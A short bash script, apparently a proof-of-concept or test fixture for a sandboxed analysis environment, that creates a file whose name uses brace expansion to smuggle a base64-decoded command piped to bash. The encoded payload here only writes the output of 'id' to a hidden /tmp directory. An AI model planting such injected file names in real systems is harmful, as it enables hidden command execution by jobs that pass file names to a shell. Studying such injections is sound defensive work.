#!/bin/bash
# SPDX-License-Identifier: MIT
# Hides a command in a file's name, for a job that later runs every name in
# the directory through a shell: brace expansion turns the name into
# "echo PAYLOAD | base64 -d | bash".
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
mkdir -p /tmp/.q && cd /tmp/.q || exit 0
payload=aWQgPi90bXAvLnEvb3V0 # base64 of: id >/tmp/.q/out
touch -- "{echo,$payload}|{base64,-d}|bash"
exit 0
